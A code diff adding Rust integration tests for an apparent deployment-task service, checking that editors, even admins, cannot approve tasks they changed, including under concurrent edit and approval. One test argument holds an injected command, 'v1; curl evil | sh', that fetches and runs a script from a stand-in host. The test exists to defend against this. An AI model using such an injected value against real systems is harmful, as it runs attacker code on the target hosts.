@@ -180,7 +180,80 @@ async fn templates_that_require_approval_refuse_ready_submissions(backend: Backe
     assert_eq!(app.post("/api/v1/tasks", t, &body("new")).await.expect(201)["status"], "new");
 }
 
+async fn whoever_changed_a_task_cannot_approve_it_not_even_an_admin(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let t = &app.admin_token;
+    let tpl = app
+        .post(
+            "/api/v1/templates",
+            t,
+            &json!({"name": "prod db", "require_approval": true,
+            "steps": [{"name": "s", "group": "1", "script": "echo {{ TAG }}"}]}),
+        )
+        .await
+        .expect(201);
+    let op = app.user("otto", "operator", &[]).await;
+    let april = app.user("april", "approver", &[]).await;
+    let body = json!({"template_id": tpl["id"], "schedule": "new", "args": {"TAG": "v1"},
+                      "hosts": {"1": ["db-1"]}, "exec_time": "2035-01-01 00:00:00"});
+    let task = app.post("/api/v1/tasks", &op, &body).await.expect(201);
+    let path = format!("/api/v1/tasks/{}", task["id"]);
+    app.post(&format!("{path}/approve"), &april, &json!({})).await.expect(200);
+    // The attack: an admin rewrites someone else's approved task, then approves it himself.
+    let changed = app.patch(&path, t, &json!({"args": {"TAG": "v1; curl evil | sh"}})).await.expect(200);
+    assert_eq!(changed["status"], "new", "the approval was for the old contents");
+    assert_eq!(changed["editors"], json!(["admin"]));
+    let e = app.post(&format!("{path}/approve"), t, &json!({})).await.expect_error(403, "forbidden", None);
+    assert!(e["message"].as_str().unwrap().contains("changed task"), "{e}");
+    // The same for an approver who edits; a third person may approve.
+    let bert = app.user("bert", "approver", &[]).await;
+    let changed = app.patch(&path, &op, &json!({"args": {"TAG": "v2"}})).await.expect(200);
+    assert_eq!(changed["editors"], json!(["admin", "otto"]));
+    app.post(&format!("{path}/approve"), &op, &json!({})).await.expect(403);
+    let approved = app.post(&format!("{path}/approve"), &april, &json!({})).await.expect(200);
+    assert_eq!(approved["status"], "ready");
+    assert_eq!(approved["approval"]["by"], "april");
+    // Rejecting is not approving: an editor may still stop a task.
+    let other = app.post("/api/v1/tasks", &op, &body).await.expect(201);
+    let other = format!("/api/v1/tasks/{}", other["id"]);
+    app.patch(&other, &bert, &json!({"details": "checked"})).await.expect(403);
+    app.patch(&other, t, &json!({"details": "checked"})).await.expect(200);
+    assert_eq!(app.post(&format!("{other}/reject"), t, &json!({})).await.expect(200)["status"], "rejected");
+    // With the self-approval policy on, an editor may approve.
+    let third = app.post("/api/v1/tasks", &op, &body).await.expect(201);
+    let third = format!("/api/v1/tasks/{}", third["id"]);
+    app.patch(&third, t, &json!({"details": "looked at it"})).await.expect(200);
+    app.put("/api/v1/policy", t, &json!({"allow_self_approval": true})).await.expect(200);
+    assert_eq!(app.post(&format!("{third}/approve"), t, &json!({})).await.expect(200)["status"], "ready");
+}
+
+/// An edit and an approval by the same admin sent at once: whatever order they land in,
+/// a `ready` task is never approved by one of its editors, nor for other contents.
+async fn an_edit_racing_an_approval_never_yields_a_self_approved_task(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let t = &app.admin_token;
+    let template = app.deploy_template().await;
+    let op = app.user("otto", "operator", &[]).await;
+    for round in 0..12 {
+        let task = app.submit(&op, template, "new").await.expect(201);
+        let path = format!("/api/v1/tasks/{}", task["id"]);
+        let tag = format!("release-9.{round}");
+        let (edit_body, approve_path, empty) = (json!({"args": {"TAG": tag}}), format!("{path}/approve"), json!({}));
+        let (edited, approved) = tokio::join!(app.patch(&path, t, &edit_body), app.post(&approve_path, t, &empty));
+        assert!([200, 409].contains(&edited.status.as_u16()), "edit: {:?}", edited);
+        assert!([200, 403, 409].contains(&approved.status.as_u16()), "approve: {:?}", approved);
+        let now = app.get(&path, t).await.expect(200);
+        if now["status"] == "ready" {
+            assert_eq!(now["approval"]["digest"], now["digest"], "approved for other contents: {now}");
+            let editors = now["editors"].as_array().unwrap();
+            assert!(!editors.contains(&now["approval"]["by"]), "self-approved after an edit: {now}");
+        }
+    }
+}
+
 both_backends!(
+    an_edit_racing_an_approval_never_yields_a_self_approved_task,
+    whoever_changed_a_task_cannot_approve_it_not_even_an_admin,
     a_token_with_only_task_approve_can_decide,
     templates_that_require_approval_refuse_ready_submissions,
     approve_moves_new_to_ready_and_records_who_when_and_the_digest,
